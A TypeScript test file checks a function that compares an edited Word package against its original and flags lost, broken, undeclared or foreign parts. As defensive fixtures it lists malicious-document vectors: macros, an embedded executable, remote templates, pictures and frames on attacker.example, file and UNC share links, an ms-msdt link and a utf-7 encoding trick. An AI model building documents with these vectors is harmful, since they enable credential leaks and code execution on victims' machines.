import { CFB } from '@e965/xlsx';
import { expect, it } from 'vitest';
import { type ZipParts, openZipOf } from '../zip/zip-parts.ts';
import { comparePackages } from './compare-packages.ts';

const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const mc = 'http://schemas.openxmlformats.org/markup-compatibility/2006';
const w14 = 'http://schemas.microsoft.com/office/word/2010/wordml';
const relations = (...targets: string[]): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${targets
    .map((target, at) => `<Relationship Id="rId${at}" Type="x" Target="${target}"/>`)
    .join('')}</Relationships>`;

const base: Record<string, string> = {
  '[Content_Types].xml':
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="r"/><Override PartName="/word/media/a.png" ContentType="image/png"/></Types>',
  '_rels/.rels': relations('word/document.xml'),
  'word/document.xml': `<w:document xmlns:w="${word}" xmlns:mc="${mc}" xmlns:w14="${w14}" mc:Ignorable="w14"><w:body><w:p><w:r><w:t>one </w:t></w:r></w:p></w:body></w:document>`,
  'word/_rels/document.xml.rels': relations('theme/theme1.xml', 'media/a.png'),
  'word/theme/theme1.xml': '<?xml version="1.0"?>\r\n<a:theme xmlns:a="urn:a" b="1" c="2">\n  <a:x/>\n  <a:y> </a:y>\n</a:theme>',
  'word/media/a.png': 'bytes',
};

function zipOf(parts: Record<string, string | undefined>): Promise<ZipParts> {
  const file = CFB.utils.cfb_new();
  for (const [name, text] of Object.entries(parts)) if (text !== undefined) CFB.utils.cfb_add(file, `/${name}`, Buffer.from(text));
  return openZipOf(Buffer.from(CFB.write(file, { type: 'buffer', fileType: 'zip' }) as Uint8Array), 1 << 20);
}

const differences = async (changes: Record<string, string | undefined>, how: 'edited' | 'untouched' = 'edited') =>
  (await comparePackages(await zipOf(base), await zipOf({ ...base, ...changes }), how)).map(({ part, kind }) => `${kind} ${part}`);

const changed = (part: string, from: string, to: string): Record<string, string> => {
  const before = base[part] ?? '';
  expect(before).toContain(from);
  return { [part]: before.replace(from, to) };
};

it('takes edits of the text, and a tree that is written in another way', async () => {
  expect(await differences({})).toEqual([]);
  expect(await differences(changed('word/document.xml', 'one', 'two'))).toEqual([]);
  const theme = '<q:theme c="2" b="1" xmlns:q="urn:a"><q:x></q:x><q:y> </q:y></q:theme>';
  expect(await differences({ 'word/theme/theme1.xml': theme }, 'untouched')).toEqual([]);
});

it.each([
  ['a lost part', { 'word/theme/theme1.xml': undefined }, ['lost word/theme/theme1.xml', 'dangling word/_rels/document.xml.rels']],
  ['other bytes', { 'word/media/a.png': 'other' }, ['changed word/media/a.png']],
  ['another attribute', changed('word/theme/theme1.xml', 'b="1"', 'b="3"'), ['changed word/theme/theme1.xml']],
  ['a lost space', changed('word/theme/theme1.xml', '<a:y> </a:y>', '<a:y/>'), ['changed word/theme/theme1.xml']],
  ['another namespace', changed('word/theme/theme1.xml', 'urn:a', 'urn:b'), ['changed word/theme/theme1.xml']],
  ['half a text', changed('word/document.xml', '</w:body></w:document>', ''), ['broken word/document.xml']],
  ['another root', { 'word/document.xml': '<html/>' }, ['changed word/document.xml']],
  ['a prefix without its namespace', changed('word/document.xml', ` xmlns:w14="${w14}"`, ''), ['broken word/document.xml']],
  [
    'a document type',
    changed('word/document.xml', '<w:document', '<!DOCTYPE a [<!ENTITY b "c">]><w:document'),
    ['broken word/document.xml'],
  ],
  ['a new part without a type', { 'word/media/b.bin': 'x' }, ['undeclared word/media/b.bin']],
  ['a new part that is broken', { 'word/header1.xml': '<w:hdr' }, ['broken word/header1.xml']],
  ['a relationship that leads nowhere', changed('_rels/.rels', 'word/document.xml', 'word/gone.xml'), ['dangling _rels/.rels']],
])('refuses %s', async (_, changes, expected) => {
  expect(await differences(changes)).toEqual(expected);
});

const type = (name: string): string => `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`;
const related = (kind: string, target: string, mode = ''): Record<string, string> =>
  changed(
    'word/_rels/document.xml.rels',
    '</Relationships>',
    `<Relationship Id="rIdN" Type="${kind}" Target="${target}"${mode}/></Relationships>`,
  );
const external = (kind: string, target: string): Record<string, string> => related(kind, target, ' TargetMode="External"');
const typed = (more: string): Record<string, string> => changed('[Content_Types].xml', '</Types>', `${more}</Types>`);
const rels = 'foreign word/_rels/document.xml.rels';

it.each([
  [
    'a picture',
    { ...typed('<Default Extension="png" ContentType="image/png"/>'), ...related(type('image'), 'media/b.png'), 'word/media/b.png': 'x' },
  ],
  ['a header', { ...related(type('header'), 'header1.xml'), 'word/header1.xml': `<w:hdr xmlns:w="${word}"/>` }],
  [
    'comments',
    {
      ...typed(
        '<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>',
      ),
      ...related(type('comments'), 'comments.xml'),
      'word/comments.xml': `<w:comments xmlns:w="${word}"/>`,
    },
  ],
  ['a link', external(type('hyperlink'), 'https://partner.example/a?b=c:d')],
  ['an address of mail', external(type('hyperlink'), 'mailto:a@partner.example')],
  ['a link as it was typed', external(type('hyperlink'), 'www.partner.example')],
])('takes %s that was added', async (_, changes) => {
  expect(await differences(changes)).toEqual([]);
});

const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
it.each([
  [
    'macros',
    { ...typed('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'), 'word/vbaProject.bin': 'x' },
    ['foreign word/vbaProject.bin', 'foreign [Content_Types].xml'],
  ],
  [
    'a program',
    { ...typed('<Default Extension="bin" ContentType="image/png"/>'), 'word/embeddings/oleObject1.bin': 'MZ' },
    ['foreign word/embeddings/oleObject1.bin'],
  ],
  ['a control', { 'word/activeX/activeX1.xml': '<a/>' }, ['foreign word/activeX/activeX1.xml']],
  ['another main type', typed(`<Override PartName="/word/document.xml" ContentType="${main}"/>`), ['foreign [Content_Types].xml']],
  [
    'another default type',
    changed('[Content_Types].xml', 'application/xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    ['foreign [Content_Types].xml'],
  ],
  [
    'a hidden type',
    typed(`<x:Override xmlns:x="urn:x" PartName="/word/document.xml" ContentType="${main}"/>`),
    ['foreign [Content_Types].xml'],
  ],
  ['a relationship to macros', related('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'document.xml'), [rels]],
  ['a relationship to a program', related(type('oleObject'), 'media/a.png'), [rels]],
  ['a remote template', external(type('attachedTemplate'), 'http://attacker.example/evil.dotm'), [rels]],
  ['a remote picture', external(type('image'), 'http://attacker.example/a.png'), [rels]],
  ['a remote frame', external(type('frame'), 'http://attacker.example/a.doc'), [rels]],
  ['a text from elsewhere', related(type('aFChunk'), 'media/a.png'), [rels]],
  ['a link to a file', external(type('hyperlink'), 'file://attacker.example/a'), [rels]],
  ['a link to a share', external(type('hyperlink'), '\\\\attacker.example\\a'), [rels]],
  ['a link that runs', external(type('hyperlink'), 'ms-msdt:/id'), [rels]],
  ['a target that is no address', related(type('image'), 'http://['), ['dangling word/_rels/document.xml.rels']],
  [
    'another encoding',
    { 'word/_rels/document.xml.rels': `<?xml version="1.0" encoding="utf-7"?>${base['word/_rels/document.xml.rels']}` },
    [rels],
  ],
])('refuses %s that was added', async (_, changes, expected) => {
  expect(await differences(changes)).toEqual(expected);
});

it('what the base has may stay', async () => {
  const had: Record<string, string> = {
    ...typed('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    'word/vbaProject.bin': 'x',
    ...external(type('attachedTemplate'), 'file:///c:/house.dotm'),
  };
  const edited: Record<string, string> = {
    ...had,
    ...changed('word/document.xml', 'one', 'two'),
    'word/_rels/document.xml.rels': (had['word/_rels/document.xml.rels'] ?? '').replace(
      '<Relationships',
      '<!-- written anew --><Relationships',
    ),
  };
  expect(await comparePackages(await zipOf({ ...base, ...had }), await zipOf({ ...base, ...edited }), 'edited')).toEqual([]);
});

it('two entries of one name are refused, as others may read the other', async () => {
  const edited = await zipOf(base);
  edited.hasTwins = true;
  expect((await comparePackages(await zipOf(base), edited, 'edited')).map((one) => one.kind)).toEqual(['foreign']);
});

it('xml:space counts where a text has spaces around it', async () => {
  const kept = changed('word/theme/theme1.xml', '<a:y> </a:y>', '<a:y xml:space="preserve"> </a:y>');
  expect(await differences(kept)).toEqual(['changed word/theme/theme1.xml']);
  expect(await differences(changed('word/theme/theme1.xml', '<a:x/>', '<a:x xml:space="preserve"/>'))).toEqual([]);
});

it('a file that nobody touched has to stay as it was, but for the ids of paragraphs', async () => {
  expect(
    await differences(changed('word/document.xml', '<w:p>', '<w:p w14:paraId="00000001" w14:textId="00000001">'), 'untouched'),
  ).toEqual([]);
  expect(await differences(changed('word/document.xml', 'one', 'two'), 'untouched')).toEqual(['changed word/document.xml']);
  expect(await differences({ 'word/header1.xml': '<a/>' }, 'untouched')).toEqual(['added word/header1.xml']);
});

it('takes no document for the editor in which no paragraph stands, while an edit may remove the last one', async () => {
  const bodies = async (body: string, how: 'edited' | 'untouched') => {
    const parts = { ...base, 'word/document.xml': `<w:document xmlns:w="${word}">${body}</w:document>` };
    return (await comparePackages(await zipOf(parts), await zipOf(parts), how)).map(({ part, kind }) => `${kind} ${part}`);
  };
  expect(await bodies('<w:body/>', 'untouched')).toEqual(['empty word/document.xml']);
  expect(await bodies('<w:body><w:sectPr/></w:body>', 'untouched')).toEqual(['empty word/document.xml']);
  expect(await bodies('<w:body/>', 'edited')).toEqual([]);
  const cell = '<w:body><w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl></w:body>';
  expect(await bodies(cell, 'untouched')).toEqual([]);
});
